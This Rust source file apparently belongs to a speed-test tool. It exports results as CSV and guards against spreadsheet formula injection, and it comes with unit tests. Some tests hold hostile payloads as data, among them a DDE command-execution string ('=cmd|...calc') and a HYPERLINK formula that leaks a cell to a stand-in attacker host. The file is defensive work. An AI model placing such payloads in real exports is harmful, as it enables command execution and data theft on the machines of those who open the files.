//! Samples as CSV rows: evidence a person can open in a spreadsheet or send to the ISP.
//!
//! Rows are written by the `csv` crate from one serde struct, [`Row`], so the header (its field
//! names) and the cells cannot drift apart, and quoting follows RFC 4180 (a cell holding a
//! comma, quote or line break is quoted, inner quotes doubled). Text that came from outside
//! (the CLI's message, server and ISP names, the result URL, the engine's URL) is neutralised against CSV
//! injection as the OWASP guidance says (<https://owasp.org/www-community/attacks/CSV_Injection>):
//! a cell that a spreadsheet would run as a formula gets a leading single quote. Numbers are
//! written as numbers.

use std::borrow::Cow;

use serde::{Serialize, Serializer};

use crate::sample::{Sample, Trigger, mbit_per_second, millis, percent};
use crate::time::Timestamp;

/// The header row, ending in a newline. Speeds come in bytes/s (exact) and Mbit/s (what
/// contracts say).
pub(crate) fn header_line() -> String {
    // The csv crate writes a struct's field names before its first row: keep that line only.
    let any = Sample::empty(Timestamp::from_millis(0), Trigger::Manual);
    let line = write_row(&any, true);
    match line.find('\n') {
        Some(end) => line[..=end].to_owned(),
        None => line,
    }
}

/// One row, ending in a newline; an unknown value is an empty cell.
pub(crate) fn row_line(sample: &Sample) -> String {
    write_row(sample, false)
}

fn write_row(sample: &Sample, with_header: bool) -> String {
    let mut writer = ::csv::WriterBuilder::new()
        .has_headers(with_header)
        .terminator(::csv::Terminator::Any(b'\n'))
        .buffer_capacity(1024)
        .from_writer(Vec::with_capacity(256));
    // Writing to memory cannot fail, and every cell is valid UTF-8 text or a number; should
    // the crate ever refuse a row, an empty row keeps the file readable.
    if writer.serialize(Row::of(sample)).is_err() {
        return "\n".to_owned();
    }
    match writer.into_inner() {
        Ok(bytes) => String::from_utf8(bytes).unwrap_or_else(|_| "\n".to_owned()),
        Err(_) => "\n".to_owned(),
    }
}

/// The characters that make a spreadsheet read a cell as a formula when it starts with one
/// (OWASP CSV Injection): `=`, `+`, `-`, `@`, tab, carriage return and line feed, their
/// full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), and the small forms and the minus sign
/// some spreadsheets also take for operators (U+FE66, U+FE62, U+FE63, U+FE6B, U+2212).
const FORMULA_STARTS: [char; 16] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    '\u{FE66}', '\u{FE62}', '\u{FE63}', '\u{FE6B}', '\u{2212}',
];

/// Characters that show as nothing and that a spreadsheet may drop before deciding whether a
/// cell is a formula: zero-width space, non-joiner and joiner, word joiner, byte-order mark.
const INVISIBLE: [char; 5] = ['\u{200B}', '\u{200C}', '\u{200D}', '\u{2060}', '\u{FEFF}'];

/// Characters a spreadsheet may split a line at, whatever this file's own separator: `;` is
/// the list separator of many locales (a German or French spreadsheet opens a `.csv` split at
/// it), and a tab or `|` is offered on import. A cell holding one holds the starts of others.
const SEPARATORS: [char; 4] = [',', ';', '\t', '|'];

/// `cell` made inert for a spreadsheet: each part that a spreadsheet may take for a cell of
/// its own — the cell itself, and what follows any of [`SEPARATORS`] in it — gets a `'` before
/// it when it starts with a formula character, or with whitespace before one (some
/// spreadsheets trim it before deciding): `;=1+1` becomes `;'=1+1`.
/// Source: OWASP, CSV Injection, <https://owasp.org/www-community/attacks/CSV_Injection>
/// (which warns of field separators inside a cell).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let is_formula_start = |c: char| FORMULA_STARTS.contains(&c);
    let starts_a_formula = |part: &str| {
        part.trim_start_matches(|c: char| {
            (c.is_whitespace() || INVISIBLE.contains(&c)) && !is_formula_start(c)
        })
        .starts_with(is_formula_start)
    };
    // Where each part a spreadsheet may split off begins: the cell's start, and after each
    // separator.
    let starts = std::iter::once(0).chain(
        cell.match_indices(SEPARATORS)
            .map(|(at, sep)| at + sep.len()),
    );
    let risky: Vec<usize> = starts.filter(|&at| starts_a_formula(&cell[at..])).collect();
    if risky.is_empty() {
        return Cow::Borrowed(cell);
    }
    let mut out = String::with_capacity(cell.len() + risky.len());
    let mut done = 0;
    for at in risky {
        out.push_str(&cell[done..at]);
        out.push('\'');
        done = at;
    }
    out.push_str(&cell[done..]);
    Cow::Owned(out)
}

/// A text cell from outside the program, neutralised when written.
struct Text<'a>(Option<&'a str>);

impl Serialize for Text<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&neutralise(self.0.unwrap_or_default()))
    }
}

/// A number as Rust prints it (`3000000`, `0.0125`), never neutralised: numbers stay numbers.
struct Number(Option<f64>);

impl Serialize for Number {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        match self.0 {
            Some(value) => serializer.collect_str(&value),
            None => serializer.serialize_str(""),
        }
    }
}

/// One CSV row; its field names are the header.
#[derive(Serialize)]
struct Row<'a> {
    time: String,
    outcome: &'static str,
    reason: &'static str,
    message: Text<'a>,
    trigger: &'static str,
    duration_seconds: Number,
    download_bytes_per_second: Number,
    download_mbit_per_second: Number,
    upload_bytes_per_second: Number,
    upload_mbit_per_second: Number,
    ping_seconds: Number,
    ping_ms: Number,
    jitter_seconds: Number,
    jitter_ms: Number,
    packet_loss_ratio: Number,
    packet_loss_percent: Number,
    download_latency_seconds: Number,
    upload_latency_seconds: Number,
    downloaded_bytes: Option<u64>,
    uploaded_bytes: Option<u64>,
    server_id: Option<u64>,
    server_name: Text<'a>,
    server_location: Text<'a>,
    server_country: Text<'a>,
    server_host: Text<'a>,
    isp: Text<'a>,
    result_url: Text<'a>,
    // The engine's columns come last: columns are only ever added at the end.
    engine: &'static str,
    engine_protocol: &'static str,
    engine_url: Text<'a>,
    engine_streams: Option<u32>,
    engine_duration_seconds: Number,
    engine_ramp_up_seconds: Number,
}

impl<'a> Row<'a> {
    fn of(sample: &'a Sample) -> Self {
        let server = sample.server.as_deref();
        let engine = sample.engine.as_deref();
        let mbit = |value: Option<f64>| Number(value.map(mbit_per_second));
        Row {
            time: sample.time.to_string(),
            outcome: sample.outcome.as_str(),
            reason: sample.reason.map(|r| r.as_str()).unwrap_or_default(),
            message: Text(sample.message.as_deref()),
            trigger: sample.trigger.as_str(),
            duration_seconds: Number(sample.duration_seconds),
            download_bytes_per_second: Number(sample.download_bytes_per_second),
            download_mbit_per_second: mbit(sample.download_bytes_per_second),
            upload_bytes_per_second: Number(sample.upload_bytes_per_second),
            upload_mbit_per_second: mbit(sample.upload_bytes_per_second),
            ping_seconds: Number(sample.ping_seconds),
            ping_ms: Number(sample.ping_seconds.map(millis)),
            jitter_seconds: Number(sample.jitter_seconds),
            jitter_ms: Number(sample.jitter_seconds.map(millis)),
            packet_loss_ratio: Number(sample.packet_loss_ratio),
            packet_loss_percent: Number(sample.packet_loss_ratio.map(percent)),
            download_latency_seconds: Number(sample.download_latency_seconds),
            upload_latency_seconds: Number(sample.upload_latency_seconds),
            downloaded_bytes: sample.downloaded_bytes,
            uploaded_bytes: sample.uploaded_bytes,
            server_id: server.and_then(|s| s.id),
            server_name: Text(server.and_then(|s| s.name.as_deref())),
            server_location: Text(server.and_then(|s| s.location.as_deref())),
            server_country: Text(server.and_then(|s| s.country.as_deref())),
            server_host: Text(server.and_then(|s| s.host.as_deref())),
            isp: Text(sample.isp.as_deref()),
            result_url: Text(sample.result_url.as_deref()),
            engine: engine.map(|e| e.name.as_str()).unwrap_or_default(),
            engine_protocol: engine
                .and_then(|e| e.protocol)
                .map(|p| p.as_str())
                .unwrap_or_default(),
            engine_url: Text(engine.and_then(|e| e.url.as_deref())),
            engine_streams: engine.and_then(|e| e.streams),
            engine_duration_seconds: Number(engine.and_then(|e| e.duration_seconds)),
            engine_ramp_up_seconds: Number(engine.and_then(|e| e.ramp_up_seconds)),
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use super::*;

    #[test]
    fn a_formula_after_a_separator_is_neutralised_too() {
        // A spreadsheet whose locale splits at `;` (or an import split at tabs or `|`) makes
        // what follows a separator a cell of its own.
        for (text, inert) in [
            (";=1+1;", ";'=1+1;"),
            ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
            ("a, @SUM(1)", "a,' @SUM(1)"),
            ("=1;+2", "'=1;'+2"),
            ("\t=1", "'\t'=1"),
            ("a|-1", "a|'-1"),
            ("Zürich; Schweiz", "Zürich; Schweiz"),
            ("\u{200B}=1+1", "'\u{200B}=1+1"),
            ("\u{FEFF}=1+1", "'\u{FEFF}=1+1"),
        ] {
            assert_eq!(neutralise(text), inert, "{text:?}");
        }
    }
    use crate::sample::{Engine, EngineName, FailureReason, HttpProtocol, Server};

    #[test]
    fn the_engine_fills_the_last_columns() {
        let sample = Sample {
            engine: Some(Arc::new(Engine {
                name: EngineName::Http,
                protocol: Some(HttpProtocol::Librespeed),
                url: Some("http://10.0.0.2:8080/backend".into()),
                streams: Some(4),
                duration_seconds: Some(10.0),
                ramp_up_seconds: Some(2.5),
            })),
            ..Sample::empty(Timestamp::from_millis(0), Trigger::Manual)
        };
        assert!(
            row_line(&sample).ends_with(",http,librespeed,http://10.0.0.2:8080/backend,4,10,2.5\n"),
            "{}",
            row_line(&sample)
        );
        let ookla = Sample {
            engine: Some(Arc::new(Engine::ookla())),
            ..sample
        };
        assert!(row_line(&ookla).ends_with(",ookla,,,,,\n"));
    }

    const HEADER: &str = "time,outcome,reason,message,trigger,duration_seconds,\
download_bytes_per_second,download_mbit_per_second,upload_bytes_per_second,upload_mbit_per_second,\
ping_seconds,ping_ms,jitter_seconds,jitter_ms,packet_loss_ratio,packet_loss_percent,download_latency_seconds,upload_latency_seconds,\
downloaded_bytes,uploaded_bytes,server_id,server_name,server_location,server_country,server_host,\
isp,result_url,engine,engine_protocol,engine_url,engine_streams,engine_duration_seconds,\
engine_ramp_up_seconds\n";

    /// Reads `text` back as a CSV reader (and so a spreadsheet importing RFC 4180) would.
    fn cells(text: &str) -> Vec<Vec<String>> {
        ::csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes())
            .records()
            .map(|record| record.unwrap().iter().map(str::to_owned).collect())
            .collect()
    }

    #[test]
    fn header_is_unchanged_and_as_wide_as_a_row() {
        assert_eq!(header_line(), HEADER);
        let sample = Sample::empty(Timestamp::from_millis(0), Trigger::Manual);
        let row = row_line(&sample);
        assert!(row.ends_with('\n'));
        assert_eq!(cells(&header_line())[0].len(), cells(&row)[0].len());
    }

    #[test]
    fn failure_row_quotes_the_message() {
        let sample = Sample::failure(
            Timestamp::from_millis(1_700_000_000_000),
            Trigger::Schedule,
            FailureReason::Exit,
            "exit status 2: said \"no\", twice",
        );
        assert_eq!(
            row_line(&sample),
            "2023-11-14T22:13:20.000Z,failure,exit,\"exit status 2: said \"\"no\"\", twice\",schedule,,,,,,,,,,,,,,,,,,,,,,,,,,,,\n"
        );
    }

    #[test]
    fn speeds_in_bytes_and_megabits() {
        let sample = Sample {
            download_bytes_per_second: Some(62_500_000.0),
            ping_seconds: Some(0.0125),
            ..Sample::empty(Timestamp::from_millis(0), Trigger::Manual)
        };
        let cells = &cells(&row_line(&sample))[0];
        assert_eq!(cells[6], "62500000");
        assert_eq!(cells[7], "500");
        assert_eq!(cells[11], "12.5");
    }

    #[test]
    fn formulas_from_outside_are_neutralised_and_numbers_stay_numbers() {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+1+1",
            "-1+1",
            "@SUM(1+1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
            " =1+1",
            "\u{FF1D}1+1",
            "\u{FF0B}1+1",
            "\u{FF0D}1+1",
            "\u{FF20}SUM(1)",
            "\u{2212}1+1",
            "=cmd|' /C calc'!A0",
            "-1+2\";=1+2",
        ];
        for text in hostile {
            let sample = Sample {
                download_bytes_per_second: Some(-1.5),
                server: Some(Arc::new(Server {
                    id: Some(7),
                    name: Some(text.to_owned()),
                    location: Some(text.to_owned()),
                    country: None,
                    host: None,
                })),
                isp: Some(Arc::from(text)),
                result_url: Some(text.to_owned()),
                engine: Some(Arc::new(Engine {
                    url: Some(text.to_owned()),
                    ..Engine::ookla()
                })),
                ..Sample::failure(
                    Timestamp::from_millis(0),
                    Trigger::Manual,
                    FailureReason::Exit,
                    text,
                )
            };
            let line = row_line(&sample);
            let rows = cells(&line);
            assert_eq!(rows.len(), 1, "one row for {text:?}: {line:?}");
            let row = &rows[0];
            for index in [3, 21, 22, 25, 26, 29] {
                assert!(row[index].starts_with('\''), "cell {index} of {line:?}");
                assert_eq!(row[index], neutralise(text), "cell {index} of {line:?}");
            }
            assert_eq!(row[6], "-1.5", "a number is written as a number");
            assert_eq!(row[20], "7");
        }
        for harmless in [
            "Example ISP",
            "Zürich",
            "1+1",
            "'quoted",
            "a=b",
            "st.example.net:8080",
        ] {
            assert_eq!(neutralise(harmless), harmless);
        }
    }
}
